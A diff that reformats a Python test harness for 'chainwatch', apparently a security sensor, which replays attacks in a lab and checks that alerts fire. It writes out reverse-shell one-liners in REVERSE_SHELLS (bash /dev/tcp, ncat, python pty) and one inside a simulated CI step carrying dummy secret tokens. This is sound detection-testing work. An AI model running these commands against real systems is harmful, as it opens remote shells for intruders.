@@ -36,26 +36,45 @@ SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"
 # Credentials CI systems put in every job step's environment. The agent must never keep them: the
 # ci_step_with_secrets scenario sets them all and its verdict looks for each value in alerts and recording.
 SECRET_ENV = {
-    "CI_JOB_TOKEN": "glcbt-cw-secret-job-token", "CI_REGISTRY_PASSWORD": "cw-secret-registry-password",
-    "CI_BUILD_TOKEN": "cw-secret-build-token", "BUILDKITE_AGENT_ACCESS_TOKEN": "bkua_cw-secret-agent-token",
-    "GITHUB_TOKEN": "ghs_cw-secret-github-token", "ACTIONS_RUNTIME_TOKEN": "cw-secret-actions-runtime",
-    "AWS_SECRET_ACCESS_KEY": "cw-secret-aws-key", "NPM_TOKEN": "npm_cw-secret-npm-token",
+    "CI_JOB_TOKEN": "glcbt-cw-secret-job-token",
+    "CI_REGISTRY_PASSWORD": "cw-secret-registry-password",
+    "CI_BUILD_TOKEN": "cw-secret-build-token",
+    "BUILDKITE_AGENT_ACCESS_TOKEN": "bkua_cw-secret-agent-token",
+    "GITHUB_TOKEN": "ghs_cw-secret-github-token",
+    "ACTIONS_RUNTIME_TOKEN": "cw-secret-actions-runtime",
+    "AWS_SECRET_ACCESS_KEY": "cw-secret-aws-key",
+    "NPM_TOKEN": "npm_cw-secret-npm-token",
 }
-CI_LABELS = {"CI": "true", "GITLAB_CI": "true", "CI_JOB_ID": "4242001", "CI_PIPELINE_ID": "90210",
-             "CI_JOB_NAME": "build", "CI_PROJECT_PATH": "cw-group/cw-project"}
+CI_LABELS = {
+    "CI": "true",
+    "GITLAB_CI": "true",
+    "CI_JOB_ID": "4242001",
+    "CI_PIPELINE_ID": "90210",
+    "CI_JOB_NAME": "build",
+    "CI_PROJECT_PATH": "cw-group/cw-project",
+}
 FAKE_RUNNER_C = Path(__file__).resolve().parents[1] / "live" / "fixtures" / "fake_runner.c"
 SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
 
 
 # ------------------------------------------------------------------------------------------------ agent
 
+
 class Agent:
     """``chainwatch record`` (or ``run``) as a subprocess; ``argv`` is the command that starts chainwatch
     (``/usr/bin/chainwatch``, or ``python -m agent`` in a checkout). Alerts go to ``alerts`` unless
     ``use_config_alerts`` (then the config's outputs are used and ``alerts`` is where the config writes)."""
 
-    def __init__(self, argv: Sequence[str], out: Path, *, config: str | None = None, alerts: Path | None = None,
-                 record: bool = True, env: dict[str, str] | None = None) -> None:
+    def __init__(
+        self,
+        argv: Sequence[str],
+        out: Path,
+        *,
+        config: str | None = None,
+        alerts: Path | None = None,
+        record: bool = True,
+        env: dict[str, str] | None = None,
+    ) -> None:
         self.argv = list(argv)
         self.out = out
         out.mkdir(parents=True, exist_ok=True)
@@ -75,17 +94,25 @@ class Agent:
 
     def start(self) -> Agent:
         with self.log.open("wb") as err:
-            self.proc = subprocess.Popen(self.cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=err,
-                                         env=self._env, start_new_session=True)
+            self.proc = subprocess.Popen(
+                self.cmd,
+                stdin=subprocess.DEVNULL,
+                stdout=subprocess.DEVNULL,
+                stderr=err,
+                env=self._env,
+                start_new_session=True,
+            )
         proc = self.proc
 
         def ready() -> bool:
             if '"sensor_ready"' in self.log_text():
                 return True
             if proc.poll() is not None:
-                raise AssertionError(f"{self.cmd} exited {proc.returncode} before sensor_ready:\n"
-                                     f"{self.log_text()[-4000:]}")
+                raise AssertionError(
+                    f"{self.cmd} exited {proc.returncode} before sensor_ready:\n{self.log_text()[-4000:]}"
+                )
             return False
+
         if wait_until(ready, timeout=READY_TIMEOUT, interval=0.2):
             return self
         self.stop()
@@ -117,8 +144,9 @@ class Agent:
     def events(self) -> list[dict[str, Any]]:
         """The recording as ``replay --dump`` prints it (after :meth:`stop`)."""
         assert self.recording is not None
-        done = subprocess.run([*self.argv, "replay", str(self.recording), "--dump"], capture_output=True,
-                              text=True, timeout=120)
+        done = subprocess.run(
+            [*self.argv, "replay", str(self.recording), "--dump"], capture_output=True, text=True, timeout=120
+        )
         if done.returncode != 0:
             raise AssertionError(f"replay of {self.recording} failed: {done.stderr[-3000:]}")
         return [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
@@ -131,6 +159,7 @@ class Agent:
 
 
 # -------------------------------------------------------------------------------------------- scenarios
+
 
 @dataclass
 class Run:
@@ -172,8 +201,10 @@ def _shell_ran(listener: Any, what: str) -> None:
 REVERSE_SHELLS: dict[str, str] = {
     "bash_dev_tcp": "bash -i >& /dev/tcp/{host}/{port} 0>&1",
     "ncat_sh_exec": "ncat --sh-exec /bin/sh {host} {port}",
-    "python_pty_spawn": ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));"
-                         "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
+    "python_pty_spawn": (
+        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
+        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
+    ),
 }
 
 
@@ -189,6 +220,7 @@ def shell_scenario(command: str) -> Callable[[NetLab, Path], Run]:
         lab.run(lab.victim_ns, ["timeout", str(SHELL_SECONDS), "bash", "-c", f"{line}; exit 0"], timeout=20)
         _shell_ran(listener, line)
         return Run(host, port)
+
     return run
 
 
@@ -211,8 +243,9 @@ def run_ci_step_with_secrets(lab: NetLab, work: Path) -> Run:
     step = f"echo building; timeout {SHELL_SECONDS} bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'; echo done"
     # Through the environment only (a real runner never puts them in argv, which the sensor does record).
     env = {"PATH": SYSTEM_PATH, "HOME": str(work), **CI_LABELS, **SECRET_ENV}
-    lab.run(lab.victim_ns, [str(runner), "run", "--service", "gitlab-runner", "--", "bash", "-c", step], env=env,
-            timeout=60)
+    lab.run(
+        lab.victim_ns, [str(runner), "run", "--service", "gitlab-runner", "--", "bash", "-c", step], env=env, timeout=60
+    )
     _shell_ran(listener, "the CI step")
     return Run(host, port, {"secrets": dict(SECRET_ENV), "labels": dict(CI_LABELS)})
 
@@ -239,8 +272,10 @@ def judge_one_incident(run: Run, alerts: list[dict[str, Any]], events: list[dict
     incidents = {a["chainwatch"]["incident"]["id"] for a in mine}
     problems = []
     if len(incidents) != 1:
-        problems.append(f"want one incident for {run.host}:{run.port}, got {len(incidents)} "
-                        f"({[(a['rule']['name'], a['event'].get('reason')) for a in mine]})")
+        problems.append(
+            f"want one incident for {run.host}:{run.port}, got {len(incidents)} "
+            f"({[(a['rule']['name'], a['event'].get('reason')) for a in mine]})"
+        )
     elif mine[-1]["destination"] != {"ip": run.host, "port": run.port}:
         problems.append(f"destination {mine[-1]['destination']!r}, want {run.host}:{run.port}")
     return problems
@@ -252,8 +287,11 @@ def judge_ci_step(run: Run, alerts: list[dict[str, Any]], events: list[dict[str,
     ci = ((mine[-1].get("supply_chain") or {}).get("ci") or {}) if mine else {}
     if ci.get("repository") != run.extra["labels"]["CI_PROJECT_PATH"]:
         problems.append(f"supply_chain.ci.repository: want the job's CI_PROJECT_PATH, got {ci!r}")
-    labelled = [e for e in events if e.get("type") == "exec" and e.get("env", {}).get("CI_JOB_ID")
-                == run.extra["labels"]["CI_JOB_ID"]]
+    labelled = [
+        e
+        for e in events
+        if e.get("type") == "exec" and e.get("env", {}).get("CI_JOB_ID") == run.extra["labels"]["CI_JOB_ID"]
+    ]
     if not labelled:
         problems.append("the recording has no exec carrying the job's CI_JOB_ID (did the step reach the sensor?)")
     alerts_text = json.dumps(alerts)
@@ -276,11 +314,14 @@ def judge_silent(run: Run, alerts: list[dict[str, Any]], events: list[dict[str, 
     return problems
 
 
-SCENARIOS: dict[str, Scenario] = {s.name: s for s in (
-    *(Scenario(name, "attack", shell_scenario(cmd), judge_one_incident) for name, cmd in REVERSE_SHELLS.items()),
-    Scenario("ci_step_with_secrets", "attack", run_ci_step_with_secrets, judge_ci_step),
-    Scenario("benign_http", "benign", run_benign_http, judge_silent),
-)}
+SCENARIOS: dict[str, Scenario] = {
+    s.name: s
+    for s in (
+        *(Scenario(name, "attack", shell_scenario(cmd), judge_one_incident) for name, cmd in REVERSE_SHELLS.items()),
+        Scenario("ci_step_with_secrets", "attack", run_ci_step_with_secrets, judge_ci_step),
+        Scenario("benign_http", "benign", run_benign_http, judge_silent),
+    )
+}
 
 
 def alerts_after(path: Path) -> Callable[[], list[dict[str, Any]]]:
@@ -295,11 +336,13 @@ def alerts_after(path: Path) -> Callable[[], list[dict[str, Any]]]:
         except FileNotFoundError:
             return []
         return [json.loads(line) for line in data.decode().splitlines() if line.strip()]
+
     return read
 
 
-def play(agent: Agent, names: Sequence[str], work: Path,
-         also: dict[str, Callable[[], list[dict[str, Any]]]] | None = None) -> list[Verdict]:
+def play(
+    agent: Agent, names: Sequence[str], work: Path, also: dict[str, Callable[[], list[dict[str, Any]]]] | None = None
+) -> list[Verdict]:
     """Start ``agent``, run the named scenarios one after the other in one fresh lab, stop it, judge each
     from its alerts file and recording. ``also`` names other alert sources (another agent watching the same
     host, e.g. ``{"service": alerts_after(path)}``) judged the same way, as "<label>:<scenario>". The lab is
